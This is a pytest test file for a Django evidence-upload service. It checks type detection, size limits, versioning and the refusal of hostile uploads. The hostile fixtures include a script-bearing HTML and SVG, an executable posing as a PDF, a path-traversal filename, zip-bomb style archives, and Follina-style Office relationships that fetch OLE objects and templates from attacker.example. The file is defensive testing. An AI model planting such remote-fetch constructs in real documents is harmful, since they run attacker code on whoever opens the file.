"""Evidence upload: type from content, size limits, generated names, versions, refusals."""

import hashlib
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.conftest import PDF_BYTES
from vetting import services
from vetting.models import Assessment, AuditEntry, EvidenceDocument
from vetting.services import InvalidInput, InvalidState, NotAllowed

pytestmark = pytest.mark.django_db


def stored_files(settings):
    root = settings.MEDIA_ROOT
    return sorted(p.name for p in root.rglob("*") if p.is_file()) if root.exists() else []


def nothing_written(assessment, settings):
    return (EvidenceDocument.objects.count(), AuditEntry.objects.count(), stored_files(settings))


def office_file(main_part: str, **parts: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", parts.pop("[Content_Types].xml", "<Types/>"))
        archive.writestr(main_part, "<x/>")
        for name, text in parts.items():
            archive.writestr(name.replace("__", "/"), text)
    return buffer.getvalue()


def relationships(*links: str) -> str:
    return ('<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
            'package/2006/relationships">' + "".join(links) + "</Relationships>")


RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def upload(assessment, user, file, question_id="4.1", kind="coa", **extra):
    return services.evidence_upload(assessment=assessment, question_id=question_id, kind=kind,
                                    upload=file, user=user, **extra)


def test_a_pdf_is_stored_under_a_generated_name_with_its_hash(assessment, practitioner,
                                                                pdf_upload):
    document = upload(assessment, practitioner, pdf_upload("../../etc/CoA lot 7.pdf"))
    assert document.original_name == "CoA lot 7.pdf"
    assert document.sha256 == hashlib.sha256(PDF_BYTES).hexdigest()
    assert document.size == len(PDF_BYTES)
    assert document.content_type == "application/pdf"
    assert document.file.name.startswith(f"evidence/{assessment.pk}/")
    assert "CoA" not in document.file.name and ".." not in document.file.name
    assert document.file.read() == PDF_BYTES
    entry = AuditEntry.objects.last()
    assert entry.event == "upload" and entry.after["sha256"] == document.sha256


@pytest.mark.parametrize("name,content,content_type", [
    ("photo.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 20, "image/png"),
    ("scan.jpg", b"\xff\xd8\xff\xe0" + b"\0" * 20, "image/jpeg"),
    ("report.docx", office_file("word/document.xml"),
     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    ("batch.xlsx", office_file("xl/workbook.xml"),
     "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
])
def test_accepted_types_are_detected_from_content(assessment, practitioner, name, content,
                                                  content_type):
    document = upload(assessment, practitioner, SimpleUploadedFile(name, content))
    assert document.content_type == content_type


@pytest.mark.parametrize("name,content,message", [
    ("empty.pdf", b"", "The file is empty"),
    ("page.pdf", b"<html><script>alert(1)</script></html>", "not an accepted type"),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><script>x</script></svg>',
     "not an accepted type"),
    ("archive.docx", office_file("other/thing.xml"), "not an accepted type"),
    ("fake.pdf", b"MZ\x90\x00 windows executable", "not an accepted type"),
])
def test_bad_files_are_refused_and_nothing_is_stored(assessment, practitioner, settings, name,
                                                     content, message):
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match=message) as refused:
        upload(assessment, practitioner, SimpleUploadedFile(name, content))
    assert refused.value.field == "file"
    assert nothing_written(assessment, settings) == before


def test_oversize_files_are_refused(assessment, practitioner, settings, pdf_upload):
    settings.UPLOAD_MAX_BYTES = 1024
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match="larger than the limit of 1.0"):
        upload(assessment, practitioner, pdf_upload(content=PDF_BYTES + b"x" * 2000))
    assert nothing_written(assessment, settings) == before


def test_a_file_just_over_the_limit_says_so_in_bytes(assessment, practitioner, settings,
                                                      pdf_upload):
    settings.UPLOAD_MAX_BYTES = 20 * 1024 * 1024
    upload = pdf_upload("big.pdf", PDF_BYTES + b"0" * (settings.UPLOAD_MAX_BYTES + 30_000))
    with pytest.raises(InvalidInput) as refused:
        services.evidence_upload(assessment=assessment, question_id="4.1", kind="coa",
                                 upload=upload, user=practitioner)
    assert refused.value.message == (f"The file is {upload.size:,} bytes, larger than the "
                                     "limit of 20,971,520 bytes.")


def test_a_kind_the_question_does_not_ask_for_is_refused(assessment, practitioner, settings,
                                                        pdf_upload):
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match="asks for documents of kind coa") as refused:
        upload(assessment, practitioner, pdf_upload(), kind="toxicology")
    assert refused.value.field == "kind"
    assert nothing_written(assessment, settings) == before


def test_replacing_keeps_the_previous_version(assessment, practitioner, pdf_upload):
    first = upload(assessment, practitioner, pdf_upload("v1.pdf"))
    second = upload(assessment, practitioner, pdf_upload("v2.pdf", PDF_BYTES + b"%2\n"),
                    replaces=first)
    first.refresh_from_db()
    assert not first.is_current and second.is_current
    assert second.replaces == first
    assert first.file.read() == PDF_BYTES  # the old file is still there
    with pytest.raises(InvalidInput, match="Only a current document"):
        upload(assessment, practitioner, pdf_upload("v3.pdf"), replaces=first)


def test_a_document_replaced_meanwhile_in_another_tab_is_refused_not_an_error(
        assessment, practitioner, settings, pdf_upload):
    """Both tabs read the document before either replaced it: the second is told, and
    nothing of it is written (it was a database error, a server error to the vendor)."""
    first = upload(assessment, practitioner, pdf_upload("v1.pdf"))
    tab_a, tab_b = (EvidenceDocument.objects.get(pk=first.pk) for _ in range(2))
    upload(assessment, practitioner, pdf_upload("v2.pdf", PDF_BYTES + b"%2\n"), replaces=tab_a)
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match="replaced meanwhile"):
        upload(assessment, practitioner, pdf_upload("v3.pdf", PDF_BYTES + b"%3\n"),
               replaces=tab_b)
    assert nothing_written(assessment, settings) == before


def test_a_new_version_answers_every_question_the_old_one_did(assessment, practitioner,
                                                             pdf_upload):
    first = upload(assessment, practitioner, pdf_upload("v1.pdf"))
    EvidenceDocument.objects.filter(pk=first.pk).update(question_ids=["4.1", "4.9"])
    second = upload(assessment, practitioner, pdf_upload("v2.pdf", PDF_BYTES + b"%2\n"),
                    replaces=first)
    assert second.question_ids == ["4.1", "4.9"]


def test_the_same_file_twice_for_one_question_is_refused(assessment, practitioner, settings,
                                                         pdf_upload):
    first = upload(assessment, practitioner, pdf_upload("CoA.pdf"))
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match=r"CoA copy.pdf is already attached to question 4.1, "
                                           r"as CoA.pdf \(the same content\)\."):
        upload(assessment, practitioner, pdf_upload("CoA copy.pdf"))
    assert nothing_written(assessment, settings) == before
    # The same bytes elsewhere, or as the replacement of the very document, are accepted.
    assert upload(assessment, practitioner, pdf_upload("tox.pdf"), question_id="6.4",
                  kind="toxicology").is_current
    assert upload(assessment, practitioner, pdf_upload("CoA.pdf"), replaces=first).is_current


def test_attaching_the_coa_removes_the_no_coa_finding(assessment, practitioner, pdf_upload):
    def coa_reds():
        return [f for f in services.assessment_evaluation(assessment).findings
                if f.question_id == "4.1" and f.severity == "RED"]

    assert coa_reds()
    upload(assessment, practitioner, pdf_upload())
    assert not coa_reds()


def test_uploads_to_a_locked_assessment_are_refused(assessment, reviewer, settings, pdf_upload):
    Assessment.objects.filter(pk=assessment.pk).update(state="approved")
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidState):
        upload(assessment, reviewer, pdf_upload())
    assert nothing_written(assessment, settings) == before


def test_vendor_uploads_only_for_vendor_questions_while_invited(assessment, practitioner,
                                                                 settings, pdf_upload):
    with pytest.raises(InvalidState):
        services.evidence_upload(assessment=assessment, question_id="4.1", kind="coa",
                                 upload=pdf_upload(), vendor_label="vendor")
    services.assessment_invite(user=practitioner, assessment=assessment)
    document = services.evidence_upload(assessment=assessment, question_id="4.1", kind="coa",
                                        upload=pdf_upload(), vendor_label="vendor: Ann")
    assert document.uploaded_by is None and document.uploaded_by_vendor == "vendor: Ann"
    before = nothing_written(assessment, settings)
    with pytest.raises((NotAllowed, InvalidInput)):
        services.evidence_upload(assessment=assessment, question_id="6.7", kind="coa",
                                 upload=pdf_upload(), vendor_label="vendor: Ann")
    assert nothing_written(assessment, settings) == before


def test_a_failure_after_storing_leaves_no_file(assessment, practitioner, settings, pdf_upload,
                                                monkeypatch):
    def broken(**kwargs):
        raise RuntimeError("database went away")

    monkeypatch.setattr("vetting.services.answers.assessment_refresh", broken)
    before = nothing_written(assessment, settings)
    with pytest.raises(RuntimeError):
        upload(assessment, practitioner, pdf_upload())
    assert nothing_written(assessment, settings) == before


# ------------------------------------------------------------- names and active content

@pytest.mark.parametrize("name,content,stored_as", [
    ("CoA-report.html", PDF_BYTES, "CoA-report.html.pdf"),
    ("invoice.cmd", PDF_BYTES, "invoice.cmd.pdf"),
    ("CoA.PDF", PDF_BYTES, "CoA.PDF"),
    ("scan.jpeg", b"\xff\xd8\xff\xe0" + b"\0" * 20, "scan.jpeg"),
    ("scan.png", b"\xff\xd8\xff\xe0" + b"\0" * 20, "scan.png.jpg"),
    ("report.docm", office_file("word/document.xml"), "report.docm.docx"),
])
def test_a_file_is_named_with_the_extension_of_its_content(assessment, practitioner, name,
                                                           content, stored_as):
    """The computer that downloads it opens it by its extension, not by its content."""
    document = upload(assessment, practitioner, SimpleUploadedFile(name, content))
    assert document.original_name == stored_as


@pytest.mark.parametrize("main,parts", [
    ("word/document.xml", {"word__vbaProject.bin": "macros"}),
    ("xl/workbook.xml", {"xl__vbaProject.bin": "macros"}),
    ("word/document.xml", {"word__activeX__activeX1.xml": "<ax/>"}),
    ("word/document.xml", {"word__embeddings__oleObject1.bin": "ole"}),
    # A template or an OLE object fetched from outside when the file opens ("Follina").
    ("word/document.xml", {"word___rels__document.xml.rels": relationships(
        f'<Relationship Id="rId9" Type="{RELS}/oleObject" '
        'Target="http://attacker.example/x.html!" TargetMode="External"/>')}),
    ("word/document.xml", {"word___rels__settings.xml.rels": relationships(
        f"<Relationship TargetMode='External' Id='r1' Type='{RELS}/attachedTemplate' "
        "Target='https://attacker.example/t.dotm'/>")}),
    # "hyperlink" in the address does not make an OLE object a hyperlink.
    ("word/document.xml", {"word___rels__document.xml.rels": relationships(
        f'<Relationship Id="r2" Type="{RELS}/oleObject" TargetMode="External" '
        'Target="http://attacker.example/relationships/hyperlink"/>')}),
])
def test_office_files_with_active_content_are_refused(assessment, practitioner, settings, main,
                                                       parts):
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match="macros, ActiveX controls, embedded objects"):
        upload(assessment, practitioner, SimpleUploadedFile("report.docx",
                                                            office_file(main, **parts)))
    assert nothing_written(assessment, settings) == before


@pytest.mark.parametrize("parts", [
    # Office finds a part by its relationship, whatever its name.
    {"word/media/image9.dat": "ole", "word/_rels/document.xml.rels": relationships(
        f'<Relationship Id="rId7" Type="{RELS}/oleObject" Target="media/image9.dat"/>')},
    {"word/macros.bin": "vba", "word/_rels/document.xml.rels": relationships(
        '<Relationship Id="rId8" Type="http://schemas.microsoft.com/office/2006/relationships/'
        'vbaProject" Target="macros.bin"/>')},
    {"[Content_Types].xml": '<Types><Override PartName="/word/x.bin" ContentType="application/'
                           'vnd.ms-office.vbaProject"/></Types>'},
    # Part names are case-insensitive: an upper-case .RELS is read too.
    {"word/_rels/settings.xml.RELS": relationships(
        f'<Relationship Id="r1" Type="{RELS}/attachedTemplate" '
        'Target="https://attacker.example/t.dotm" TargetMode="External"/>')},
])
def test_active_content_is_found_by_relationship_and_content_type(assessment, practitioner,
                                                                  parts):
    with pytest.raises(InvalidInput, match="macros, ActiveX controls, embedded objects"):
        upload(assessment, practitioner, SimpleUploadedFile("report.docx", office_file(
            "word/document.xml", **parts)))


def test_a_document_made_from_a_local_template_is_accepted(assessment, practitioner):
    """Word records the template a document was made from (often a clinic's own .dotx on a
    local drive): not content fetched from elsewhere."""
    content = office_file("word/document.xml", **{
        "word/_rels/settings.xml.rels": relationships(
            f'<Relationship Id="r1" Type="{RELS}/attachedTemplate" '
            'Target="file:///C:\\Templates\\CoA.dotx" TargetMode="External"/>')})
    document = upload(assessment, practitioner, SimpleUploadedFile("CoA.docx", content))
    assert document.content_type.endswith("wordprocessingml.document")


def test_a_zip64_end_record_is_refused_before_the_zip_is_opened(assessment, practitioner):
    """Its count and size are not the classic record's (which can say ten parts for a
    hundred thousand); a document of a few megabytes never needs ZIP64."""
    content = office_file("word/document.xml")
    at = content.rfind(b"PK\x05\x06")
    content = content[:at] + b"PK\x06\x07" + b"\0" * 16 + content[at:]
    with pytest.raises(InvalidInput, match="more than 5,000 parts"):
        upload(assessment, practitioner, SimpleUploadedFile("big.docx", content))


def test_an_office_file_with_hyperlinks_and_printer_settings_is_accepted(assessment,
                                                                          practitioner):
    content = office_file("xl/workbook.xml", **{
        "xl__printerSettings__printerSettings1.bin": "printer",
        "xl__worksheets___rels__sheet1.xml.rels": relationships(
            f'<Relationship Id="rId1" Type="{RELS}/hyperlink" '
            'Target="https://www.fda.gov/" TargetMode="External"/>',
            f'<Relationship Id="rId2" Type="{RELS}/printerSettings" '
            'Target="../printerSettings/printerSettings1.bin"/>')})
    document = upload(assessment, practitioner, SimpleUploadedFile("batch.xlsx", content))
    assert document.content_type.endswith("spreadsheetml.sheet")


def test_a_zip_of_too_many_parts_is_refused_before_it_is_opened(assessment, practitioner,
                                                                 settings, monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<x/>")
        for n in range(5_000):
            archive.writestr(f"p/{n}", "")
    opened = []
    monkeypatch.setattr(zipfile.ZipFile, "_RealGetContents",
                        lambda self: opened.append(1) or (_ for _ in ()).throw(AssertionError))
    before = nothing_written(assessment, settings)
    with pytest.raises(InvalidInput, match="more than 5,000 parts"):
        upload(assessment, practitioner, SimpleUploadedFile("big.docx", buffer.getvalue()))
    assert opened == []  # refused from the end record: no entry header read
    assert nothing_written(assessment, settings) == before


def test_relationship_lists_beyond_their_budget_are_not_read(assessment, practitioner):
    huge = relationships(*[f'<Relationship Id="r{n}" Type="{RELS}/image" Target="x{n}.png"/>'
                           for n in range(30_000)])
    with pytest.raises(InvalidInput, match="macros, ActiveX controls"):
        upload(assessment, practitioner, SimpleUploadedFile("report.docx", office_file(
            "word/document.xml", **{"word/_rels/document.xml.rels": huge})))
